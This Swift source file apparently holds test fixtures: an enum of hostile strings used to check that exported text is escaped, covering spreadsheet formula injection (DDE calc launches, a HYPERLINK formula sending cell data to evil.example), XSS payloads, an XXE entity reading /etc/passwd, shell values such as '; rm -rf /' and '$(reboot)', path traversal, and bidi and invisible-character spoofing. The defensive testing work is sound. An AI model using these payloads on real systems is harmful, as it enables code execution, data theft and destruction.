/// Text that wants to be more than text, each with what it tries.
enum Hostile {
    static let formula = "=cmd|' /C calc'!A0"
    static let plusFormula = "+1+cmd"
    static let atFormula = "@SUM(1+1)"
    static let minusFormula = "-2+3"
    static let html = "<script>alert(1)</script><img src=x onerror=alert(1)>"
    static let link = "[x](http://evil.example)"
    static let image = "![x](http://evil.example/beacon.png)"
    static let bareAddress = "see http://evil.example and www.evil.example or mo@evil.example"
    static let bidi = "invoice\u{202E}fdp.exe\u{202C}"
    static let ansi = "\u{1B}[31mred\u{1B}[0m"
    static let controls = "bell\u{7} null\u{0} feed\u{C} vertical\u{B}"
    static let escapeLookalike = "_x000D_ and _x0041_"
    static let markup = "**bold** _em_ `code` | pipe \\ ~~gone~~ # head ! &amp;"
    static let lines = "first\nsecond\r\n# third\n\n- fourth"
    static let nonCharacter = "end\u{FFFE}\u{FFFF}"
    static let long = String(repeating: "abcdefghi ", count: 4_000)

    /// One of each kind, for the shared report.
    static let sample = [
        formula, plusFormula, atFormula, minusFormula, html, link, image, bareAddress, bidi, ansi, controls,
        escapeLookalike, markup, lines, nonCharacter, long,
    ]

    /// What OWASP's page on CSV injection lists, and what spreadsheets took for a formula elsewhere.
    static let formulas = [
        "=1+1", "=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")", "=WEBSERVICE(\"http://evil.example\")",
        "=DDE(\"cmd\",\"/C calc\",\"x\")", "@SUM(1+9)*cmd|' /C calc'!A0", "+SUM(1,1)", "-1+1+cmd|' /C calc'!A0",
        "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "  =1+1", "\u{A0}=1+1", "\u{2003}=1+1", "\u{FEFF}=1+1", "＝1+1", "＋1",
        "－1",
        "＠SUM(1)", "=\u{301}1", "{=1+1}", "'=1+1", "\"=1+1\"", "\",=1+1", ";=1+1", "|calc", "%0A=1", "=IMPORTXML(1,2)",
        "#REF!", "TRUE", "1E5", "0x10", "00123", "2026-11-02", "12345678901234567890", "internal:'Cover'!A1",
        "external:c:\\temp\\x.xlsx", "mailto:mo@evil.example", "&L&Z&F", "&\u{301}A", "Sheet1!$A$1", "[1]Sheet!A1",
    ]

    static let markdown = [
        "[x]: http://evil.example", "[x]", "[4711]", "[plain]", "[^1]", "[^1]: note", "[ ] task", "[x] done",
        "<http://evil.example>", "<mo@evil.example>", "http://evil.example/a_b_c", "HTTPS://EVIL.EXAMPLE",
        "ftp://evil.example", "xmpp:mo@evil.example", "WwW.evil.example", "(www.evil.example)", "*www.evil.example*",
        "mo+x@evil.example.", "mó@évil.example", "@mention", "@org/team", "see #123", "GH-123", "org/repo#12",
        "0123456789abcdef0123456789abcdef01234567", ":smile:", ":+1:", "a :tada: b", ":a::b:", "12:30:45", "# heading",
        "#",
        "##", "about #", "C#", "====", "=", "---", "- - -", "***", "* * *", "* item", "+ item", "- item", "-",
        "1. item",
        "1) item", "123456789. item", "> quote", ">", "```", "```swift", "~~~", "    code", "\tcode", "`", "``",
        "a ` b",
        "`\u{301}x`", "*a*", "**a**", "***", "_a_", "__a__", "a_b_c", "_a", "a_", "snake_case_word", "*", "a * b",
        "~a~",
        "~~a~~", "~", "a ~ b", "&lt;b&gt;", "&#60;", "&#x3C;", "&copy;", "R & D", "AT&T;", "\\", "\\\\", "\\*a\\*",
        "\\mo@evil.example", "a\\", "| a | b |", "a | b", "|", "||", "--- | ---", ":-- | --:", "<", "a < b", "<b",
        "</b>",
        "<!-- x -->", "<?php ?>", "<![CDATA[x]]>", "<a href=\"javascript:alert(1)\">x</a>", "<details>", "n < 10 > 5",
        "javascript:alert(1)", "data:text/html,x", "![", "![]", "]", "](http://evil.example)", "[[wiki]]", "![[x]]",
        "$x$",
        "$5 and $6", "$$x$$", "$", "a  b", "a \\", "[!NOTE]", "Term\n: definition", "a\n===", "a\n---", "a\n\nb",
        "a\r\n\r\n# b", "\u{2028}# a", "\u{85}- b", "a\u{A0}", "\u{A0}a", "\u{3000}", "**\u{A0}", "{{name}}", "{{{x}}}",
        "{{#a}}",
        "{{> partial}}", "{path|count}", "{breach_trend.sla_minutes|count}", "{{% CONTENT_TYPE:TEXT}}", "{{=<% %>=}}",
    ]

    /// What hides, turns or stacks, beside what real scripts and emoji need.
    static let invisible = [
        "\u{202A}a\u{202C}", "\u{2066}a\u{2069}", "\u{200B}a\u{200B}b", "a\u{200D}b", "a\u{200C}b", "\u{200E}a",
        "a\u{200F}1",
        "\u{61C}1", "\u{FEFF}", "so\u{AD}ft", "\u{2060}", "\u{3164}", "\u{180E}", "tag\u{E0041}\u{E007F}",
        "x\u{FE0F}\u{FE0E}\u{FE0F}",
        "\u{1F600}\u{E0101}\u{E0102}", "\u{FFF9}a\u{FFFA}b\u{FFFB}",
        "\u{1B}]8;;http://evil.example\u{7}x\u{1B}]8;;\u{7}", "\u{9B}31m",
        "a\u{0}b", "a\rb", "a\u{2028}b\u{2029}c", "a\u{85}b", "\u{8}\u{8}\u{8}", "\u{7F}", "\u{1}", "\u{10FFFF}",
        "\u{E000}",
        "e\u{301}\u{302}\u{303}\u{304}\u{305}", "\u{301}", "z" + String(repeating: "\u{30D}", count: 60), "👩‍💻", "👨‍👩‍👧‍👦", "❤️‍🔥",
        "🏳️‍🌈",
        "🇨🇦", "می‌خواهم", "क्‍ष", "שלום‏!", "مرحبا بالعالم", "日本語テキスト", "ภาษาไทยไม่มีช่องว่าง", "हिन्दी", "한국어", "𝒻𝓊𝓃", "ﷺ",
        String(repeating: "w", count: 500), String(repeating: "字", count: 300),
    ]

    static let formats = [
        "_x001B_", "_x005F_", "_x0041_x0042_", "_xD800_", "]]>", "<!DOCTYPE x>",
        "<!ENTITY x SYSTEM \"file:///etc/passwd\">",
        "<svg onload=alert(1)>", "</text><script>1</script>", "</title></desc>", "a\"b'c", "\" onload=\"x", "&",
        "&amp;lt;",
        "{\"a\": [1]}", "\\u0041", "\\", "\"", "'", "/* x */", "// x", "a: b", "- a: &b *c", "!!python/object", "%TAG",
        "? x",
        "null", "~", "NaN", "\\n", "$(reboot)", "`reboot`", "; rm -rf /", "../../etc/passwd", "CON", "a/b\\c:d*e?f[g]h",
        "History", "Cover", "Chart data", "'quoted'", "'", " ", "…", "–",
    ]

    static let all = sample + formulas + markdown + invisible + formats
}
